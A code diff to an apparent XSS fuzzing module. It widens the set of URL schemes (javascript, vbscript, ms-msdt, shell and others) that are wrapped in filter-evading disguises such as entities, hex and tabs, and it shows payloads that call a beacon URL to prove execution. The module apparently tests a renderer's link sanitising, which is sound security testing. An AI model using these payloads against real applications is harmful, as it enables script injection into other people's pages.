@@ -44,7 +44,15 @@ const MUTATIONS = [
 ];
 
 /** Schemes that a link could have. */
-const SCHEMES = ['javascript', 'vbscript', 'livescript', 'data', 'file', 'smb', 'obsidian', 'vault', 'ipc', 'tauri', 'asset', 'blob', 'filesystem', 'view-source', 'about', 'jar', 'mocha', 'ms-msdt', 'search-ms', 'steam'];
+const SCHEMES = [
+  'javascript', 'vbscript', 'livescript', 'data', 'file', 'smb', 'obsidian', 'vault', 'ipc', 'tauri', 'asset', 'blob',
+  'filesystem', 'view-source', 'about', 'jar', 'mocha', 'ms-msdt', 'search-ms', 'steam', 'ftp', 'sftp', 'ssh', 'telnet',
+  'gopher', 'ws', 'wss', 'news', 'nntp', 'irc', 'ldap', 'dict', 'tftp', 'rtsp', 'mms', 'magnet',
+  'bitcoin', 'tel', 'sms', 'callto', 'skype', 'facetime', 'slack', 'vscode', 'vscode-insiders', 'itms', 'market', 'intent',
+  'android-app', 'chrome', 'chrome-extension', 'moz-extension', 'resource', 'res', 'shell', 'ms-word', 'ms-excel', 'ms-settings', 'mk', 'cid',
+];
+/** Of so many of them every way to hide them is tried; of the others the first six. */
+const KNOWN_TO_BITE = 20;
 /** Ways to hide one. */
 const DISGUISES = [
   (scheme) => scheme, (scheme) => scheme.toUpperCase(), (scheme) => `\t${scheme}`, (scheme) => `${scheme[0]}&Tab;${scheme.slice(1)}`, (scheme) => entities(scheme), (scheme) => hex(scheme),
@@ -72,7 +80,7 @@ export function payloads(beacon) {
   const ran = (shape) => add((number) => shape.replaceAll('%', proof(number).replaceAll('"', '&quot;')));
   for (const shape of [...HANDLERS, ...SCRIPTS, ...MUTATIONS]) ran(shape);
   SCHEMES.forEach((scheme, row) =>
-    DISGUISES.forEach((disguise, column) => add((number) => LINKS[(row + column) % LINKS.length].replaceAll('@', target(disguise(scheme), number)))),
+    DISGUISES.slice(0, row < KNOWN_TO_BITE ? 8 : 6).forEach((disguise, column) => add((number) => LINKS[(row + column) % LINKS.length].replaceAll('@', target(disguise(scheme), number)))),
   );
   for (const link of LINKS) for (const disguise of DISGUISES) add((number) => link.replaceAll('@', target(disguise('javascript'), number)));
   for (const shape of FETCHES) add((number) => shape.replaceAll('@', `${beacon}/${number}`));
